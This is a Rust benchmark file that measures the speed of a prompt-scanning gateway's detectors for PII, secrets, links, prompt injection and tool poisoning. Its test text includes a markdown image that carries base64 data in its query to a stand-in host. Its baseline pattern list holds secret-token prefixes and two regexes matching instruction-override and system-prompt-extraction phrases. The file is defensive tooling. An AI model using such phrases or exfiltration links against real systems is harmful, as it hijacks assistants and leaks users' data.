//! Throughput of the detectors, one by one and as a pipeline, on generated English text of 1, 10
//! and 100 KB and on a sample of the dev prompts; the stream scanner on a 10 KB answer in 20-byte
//! deltas; and, as a yardstick, a `regex::RegexSet` of 12 simple patterns over the same text.
//!
//! ```sh
//! cargo bench -p portcullis-detect --bench detectors -- --warm-up-time 1 --measurement-time 3
//! ```
//!
//! Groups (criterion prints time per iteration and, from `Throughput::Bytes`, MiB/s):
//!
//! - `normalise`: `Normaliser::default().normalise` alone.
//! - `pii`, `secrets`, `links`, `injection`, `tool_poisoning`: one detector's `Detector::scan`
//!   over text that is already normalised (so normalising is not counted twice); `injection`
//!   and `tool_poisoning` read every view, `tool_poisoning` as a document.
//! - `injection_rules`, `injection_classifier`: the rule pack and the classifier on the
//!   lowercased text only (one view), as the `throughput` example's breakdown measures them.
//! - `pipeline_full` (`Pipeline::default_full`) and `pipeline_patterns`
//!   (`Pipeline::with_pattern_detectors`, what the stream scanner runs): normaliser plus every
//!   detector, as the gateway calls them; also on a 2 KB prompt and on 10 KB with PII, a link
//!   and non-ASCII text mixed in.
//! - `dev_prompts`: the whole pipeline over a fixed sample of records from the dev datasets
//!   (`PORTCULLIS_DATASETS`, default `../shared/datasets` beside the repository); each record
//!   is scanned in its own context. One iteration scans the whole sample, so the mean per
//!   prompt is the time divided by the count printed at start. Under `cargo bench` the start
//!   also prints the distribution of single-prompt times (see [`print_distribution`]: a prompt
//!   scanned after other prompts can cost far more than the same prompt scanned twice in a
//!   row). Skipped when the directory is missing.
//! - `stream`: a `StreamScanner` over the pattern pipeline, fed 10 KB in 20-byte deltas.
//! - `regexset_baseline`: `RegexSet::matches` with 12 patterns (e-mail, SSN, card, IPv4, URL,
//!   five token prefixes, two injection phrases) over the same English text.

// Benches are not the request path: a setup failure (the shipped model does not load, a
// pattern does not compile) should stop the run loudly.
#![allow(clippy::expect_used)]

use std::hint::black_box;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use criterion::{BenchmarkId, Criterion, Throughput, criterion_group, criterion_main};
use portcullis_detect::injection::features::lowercase_in_place_offsets;
use portcullis_detect::{
    Context, Detector, FindingAction, HostAllowlist, InjectionDetector, LinkDetector,
    NormalisedText, Normaliser, OnOverflow, PiiDetector, Pipeline, RedactionMap, ScanInput,
    ScanStep, SecretsDetector, StreamConfig, StreamScanner, ToolPoisoningDetector,
};

/// Sizes of the generated texts, in bytes.
const SIZES: [usize; 3] = [1024, 10 * 1024, 100 * 1024];

/// Words for the generated text: the commonest English words and some office vocabulary, so
/// the text looks like prompts and answers (and contains few detector triggers).
const WORDS: &str = "\
    the be to of and a in that have it for not on with he as you do at this but his by from \
    they we say her she or an will my one all would there their what so up out if about who \
    get which go me when make can like time no just him know take people into year your good \
    some could them see other than then now look only come its over think also back after use \
    two how our work first well way even new want because any these give day most us summary \
    invoice customer schedule meeting budget review draft report server deploy release \
    quarterly revenue project team please thanks question answer example function table \
    chapter weather travel recipe garden history science market student";

/// Deterministic English-like ASCII text of about `target` bytes: sentences of words from
/// [`WORDS`], commas, the odd number, and a paragraph break now and then.
fn english(target: usize) -> String {
    let mut state: u64 = 0x9E37_79B9_7F4A_7C15;
    let mut next = move || {
        // xorshift64: fixed seed, so every run benches the same text.
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let words: Vec<&str> = WORDS.split_whitespace().collect();
    let mut out = String::with_capacity(target + 32);
    let mut words_in_sentence = 0;
    while out.len() < target {
        let r = next();
        let word = words[(r % words.len() as u64) as usize];
        if words_in_sentence == 0 {
            let mut chars = word.chars();
            if let Some(first) = chars.next() {
                out.push(first.to_ascii_uppercase());
                out.push_str(chars.as_str());
            }
        } else if r % 53 == 0 {
            out.push_str(&(r % 1000).to_string());
        } else {
            out.push_str(word);
        }
        words_in_sentence += 1;
        if words_in_sentence > 5 && r % 7 == 0 {
            out.push_str(if r % 6 == 0 { ".\n\n" } else { ". " });
            words_in_sentence = 0;
        } else if r % 17 == 0 {
            out.push_str(", ");
        } else {
            out.push(' ');
        }
    }
    out.truncate(target);
    out
}

/// 10 KB of English with detector work mixed in at the end: PII, a foreign markdown image
/// carrying base64, accents, fullwidth letters and a homoglyph.
fn english_mixed() -> String {
    let mut text = english(10 * 1024 - 300);
    text.push_str(" Contact jane.doe@mail.test or +44 20 7946 0958; card 4111 1111 1111 1111. ");
    text.push_str("![x](https://evil.test/p.png?d=c2VjcmV0IGRhdGEgMTIzNDU2Nzg5MA) ");
    text.push_str("Ünïcödé façade — naïve café, ｆｕｌｌｗｉｄｔｈ and p\u{0430}ypal.");
    text
}

fn label(bytes: usize) -> String {
    format!("{}KB", bytes / 1024)
}

fn bench_normalise(c: &mut Criterion) {
    let normaliser = Normaliser::default();
    let mut group = c.benchmark_group("normalise");
    for size in SIZES {
        let text = english(size);
        group.throughput(Throughput::Bytes(size as u64));
        group.bench_function(label(size), |b| {
            b.iter(|| normaliser.normalise(black_box(&text)))
        });
    }
    group.finish();
}

/// One detector over pre-normalised text of each size, as a user prompt.
fn bench_detector(c: &mut Criterion, name: &str, detector: &dyn Detector) {
    bench_detector_in(c, name, detector, Context::UserPrompt);
}

/// One detector over pre-normalised text of each size, in `context`.
fn bench_detector_in(c: &mut Criterion, name: &str, detector: &dyn Detector, context: Context) {
    let normaliser = Normaliser::default();
    let mut group = c.benchmark_group(name);
    for size in SIZES {
        let text = english(size);
        let normalised: NormalisedText = normaliser.normalise(&text);
        let input = ScanInput {
            original: &text,
            normalised: &normalised,
            context,
        };
        group.throughput(Throughput::Bytes(size as u64));
        group.bench_function(label(size), |b| {
            b.iter(|| {
                let mut out = Vec::new();
                detector.scan(black_box(&input), &mut out);
                out
            })
        });
    }
    group.finish();
}

fn bench_detectors(c: &mut Criterion) {
    let injection = InjectionDetector::embedded().expect("shipped injection model loads");
    bench_detector(c, "pii", &PiiDetector::new());
    bench_detector(c, "secrets", &SecretsDetector::new());
    bench_detector(c, "links", &LinkDetector::new(HostAllowlist::default()));
    bench_detector(c, "injection", &injection);
    // Tool definitions are scanned as documents; the detector reports nothing elsewhere.
    bench_detector_in(
        c,
        "tool_poisoning",
        &ToolPoisoningDetector::new(),
        Context::Document,
    );

    let mut group = c.benchmark_group("injection_rules");
    for size in SIZES {
        let lower = lowercase_in_place_offsets(&english(size));
        group.throughput(Throughput::Bytes(size as u64));
        group.bench_function(label(size), |b| {
            b.iter(|| {
                injection
                    .rules()
                    .scan(black_box(&lower), Context::UserPrompt)
            })
        });
    }
    group.finish();

    let mut group = c.benchmark_group("injection_classifier");
    for size in SIZES {
        let lower = lowercase_in_place_offsets(&english(size));
        group.throughput(Throughput::Bytes(size as u64));
        group.bench_function(label(size), |b| {
            b.iter(|| injection.model().score_text(black_box(&lower)))
        });
    }
    group.finish();
}

fn bench_pipelines(c: &mut Criterion) {
    let full = Pipeline::default_full(HostAllowlist::default()).expect("shipped model loads");
    let patterns = Pipeline::with_pattern_detectors(HostAllowlist::default());
    for (name, pipeline) in [("pipeline_full", &full), ("pipeline_patterns", &patterns)] {
        let mut group = c.benchmark_group(name);
        let mut texts: Vec<(String, String)> = [1024, 2 * 1024, 10 * 1024, 100 * 1024]
            .into_iter()
            .map(|size| (label(size), english(size)))
            .collect();
        texts.push(("10KB_mixed".to_owned(), english_mixed()));
        for (id, text) in &texts {
            group.throughput(Throughput::Bytes(text.len() as u64));
            group.bench_function(id.as_str(), |b| {
                b.iter(|| pipeline.scan(black_box(text), Context::UserPrompt))
            });
        }
        group.finish();
    }
}

/// Where the dev datasets are: `PORTCULLIS_DATASETS`, else `shared/datasets` beside the
/// repository (where the project's machines keep them).
fn datasets_dir() -> PathBuf {
    match std::env::var_os("PORTCULLIS_DATASETS") {
        Some(dir) => PathBuf::from(dir),
        None => Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/datasets"),
    }
}

/// Records kept per dataset file: every k-th record, so that each file contributes about this
/// many, spread over the file.
const PER_FILE: usize = 30;

/// A fixed sample of `(text, context)` records from every `*.jsonl` file in `dir`, in file
/// name order. Empty when the directory cannot be read.
fn dev_prompts(dir: &Path) -> Vec<(String, Context)> {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    let mut files: Vec<PathBuf> = entries
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "jsonl"))
        .collect();
    files.sort();
    let mut sample = Vec::new();
    for file in files {
        let Ok(body) = std::fs::read_to_string(&file) else {
            continue;
        };
        let lines: Vec<&str> = body.lines().filter(|l| !l.trim().is_empty()).collect();
        let stride = lines.len().div_ceil(PER_FILE).max(1);
        for line in lines.iter().step_by(stride) {
            let Ok(record) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            let Some(text) = record.get("text").and_then(|t| t.as_str()) else {
                continue;
            };
            let context = record
                .get("context")
                .and_then(|c| c.as_str())
                .and_then(Context::parse)
                .unwrap_or(Context::UserPrompt);
            sample.push((text.to_owned(), context));
        }
    }
    sample
}

/// Prints the distribution of single-prompt scan times, measured two ways. `in turn`: each
/// prompt once after all the others, as traffic arrives (the median of 3 passes); caches that
/// depend on the text (the regex engines' lazy DFAs) are then as cold as a mix of prompts
/// leaves them. `repeated`: the fastest of 5 scans of the same prompt in a row, the best case
/// that the generated-text groups measure.
fn print_distribution(name: &str, pipeline: &Pipeline, prompts: &[(String, Context)]) {
    let time = |text: &str, context: Context| {
        let start = Instant::now();
        black_box(pipeline.scan(black_box(text), context));
        start.elapsed()
    };
    let mut passes: Vec<Vec<Duration>> = vec![Vec::new(); prompts.len()];
    for _ in 0..3 {
        for ((text, context), times) in prompts.iter().zip(&mut passes) {
            times.push(time(text, *context));
        }
    }
    let in_turn: Vec<(Duration, usize)> = passes
        .iter_mut()
        .zip(prompts)
        .map(|(times, (text, _))| {
            times.sort();
            (times[times.len() / 2], text.len())
        })
        .collect();
    let repeated: Vec<(Duration, usize)> = prompts
        .iter()
        .map(|(text, context)| {
            let best = (0..5).map(|_| time(text, *context)).min();
            (best.unwrap_or_default(), text.len())
        })
        .collect();
    for (how, mut times) in [("in turn", in_turn), ("repeated", repeated)] {
        times.sort();
        let at = |q: f64| times[((times.len() - 1) as f64 * q).round() as usize];
        let total: Duration = times.iter().map(|t| t.0).sum();
        let us = |d: Duration| d.as_secs_f64() * 1e6;
        println!(
            "{name} ({how}): {} prompts, per prompt mean {:.1} µs, p50 {:.1} µs ({} B), \
             p90 {:.1} µs ({} B), p99 {:.1} µs ({} B), max {:.1} µs ({} B)",
            times.len(),
            us(total) / times.len() as f64,
            us(at(0.5).0),
            at(0.5).1,
            us(at(0.9).0),
            at(0.9).1,
            us(at(0.99).0),
            at(0.99).1,
            us(at(1.0).0),
            at(1.0).1,
        );
        // The issue's "typical 2 KB prompt", from real prompts rather than generated text.
        let near_2k: Vec<Duration> = times
            .iter()
            .filter(|(_, len)| (1024..3072).contains(len))
            .map(|t| t.0)
            .collect();
        if !near_2k.is_empty() {
            let sum: Duration = near_2k.iter().sum();
            println!(
                "{name} ({how}): {} prompts of 1-3 KB, mean {:.1} µs, median {:.1} µs",
                near_2k.len(),
                us(sum) / near_2k.len() as f64,
                us(near_2k[near_2k.len() / 2]),
            );
        }
    }
}

fn bench_dev_prompts(c: &mut Criterion) {
    let dir = datasets_dir();
    let prompts = dev_prompts(&dir);
    if prompts.is_empty() {
        println!("dev_prompts: no records under {}, skipped", dir.display());
        return;
    }
    let bytes: usize = prompts.iter().map(|(t, _)| t.len()).sum();
    println!(
        "dev_prompts: {} records, {bytes} bytes (mean {} B) from {}",
        prompts.len(),
        bytes / prompts.len(),
        dir.display()
    );
    let full = Pipeline::default_full(HostAllowlist::default()).expect("shipped model loads");
    let patterns = Pipeline::with_pattern_detectors(HostAllowlist::default());
    let benching = std::env::args().any(|a| a == "--bench");
    let mut group = c.benchmark_group("dev_prompts");
    group.throughput(Throughput::Bytes(bytes as u64));
    for (name, pipeline) in [("full", &full), ("patterns", &patterns)] {
        if benching {
            print_distribution(&format!("dev_prompts/{name}"), pipeline, &prompts);
        }
        group.bench_with_input(
            BenchmarkId::new(name, prompts.len()),
            &prompts,
            |b, prompts| {
                b.iter(|| {
                    for (text, context) in prompts {
                        black_box(pipeline.scan(black_box(text), *context));
                    }
                })
            },
        );
    }
    group.finish();
}

/// Splits `text` into deltas of about `size` bytes, on character boundaries.
fn deltas(text: &str, size: usize) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = 0;
    while start < text.len() {
        let mut end = (start + size).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        out.push(&text[start..end]);
        start = end;
    }
    out
}

fn bench_stream(c: &mut Criterion) {
    let pipeline = Arc::new(Pipeline::with_pattern_detectors(HostAllowlist::default()));
    let text = english(10 * 1024);
    let chunks = deltas(&text, 20);
    let mut group = c.benchmark_group("stream");
    group.throughput(Throughput::Bytes(text.len() as u64));
    group.bench_function("10KB_in_20B_deltas", |b| {
        b.iter(|| {
            let mut scanner = StreamScanner::new(
                Arc::clone(&pipeline),
                Vec::new(),
                Context::Assistant,
                StreamConfig::new(OnOverflow::Block),
                Box::new(|_| FindingAction::Redact),
                RedactionMap::new(),
            );
            let mut released = 0;
            for chunk in &chunks {
                match scanner.push(black_box(chunk)) {
                    ScanStep::Release(r) => released += r.text.len(),
                    ScanStep::Hold => {}
                    ScanStep::Block(reason) => panic!("plain English blocked: {reason:?}"),
                }
            }
            (released, scanner.finish())
        })
    });
    group.finish();
}

/// The yardstick: 12 simple patterns of the kind a regex-based scanner would use.
const BASELINE_PATTERNS: [&str; 12] = [
    r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}",
    r"\b\d{3}-\d{2}-\d{4}\b",
    r"\b\d{4}[ -]\d{4}[ -]\d{4}[ -]\d{4}\b",
    r"\b(?:\d{1,3}\.){3}\d{1,3}\b",
    r"https?://[^\s)]+",
    r"AKIA[0-9A-Z]{16}",
    r"ghp_[A-Za-z0-9]{36}",
    r"sk-[A-Za-z0-9]{32,}",
    r"xox[abprs]-[A-Za-z0-9-]{10,}",
    r"-----BEGIN [A-Z ]*PRIVATE KEY-----",
    r"(?i)ignore (?:all )?(?:previous|prior) instructions",
    r"(?i)reveal (?:your|the) system prompt",
];

fn bench_regexset_baseline(c: &mut Criterion) {
    let set = regex::RegexSet::new(BASELINE_PATTERNS).expect("baseline patterns compile");
    let mut group = c.benchmark_group("regexset_baseline");
    let texts = [1024, 2 * 1024, 10 * 1024, 100 * 1024].map(|size| (size, english(size)));
    for (size, text) in &texts {
        group.throughput(Throughput::Bytes(*size as u64));
        group.bench_function(label(*size), |b| b.iter(|| set.matches(black_box(text))));
    }
    group.finish();
}

criterion_group! {
    name = benches;
    // 30 samples instead of 100: the 100 KB runs take milliseconds each, and the machine has
    // two shared cores. Command-line options still override this.
    config = Criterion::default().sample_size(30);
    targets = bench_normalise, bench_detectors, bench_pipelines, bench_dev_prompts,
        bench_stream, bench_regexset_baseline
}
criterion_main!(benches);
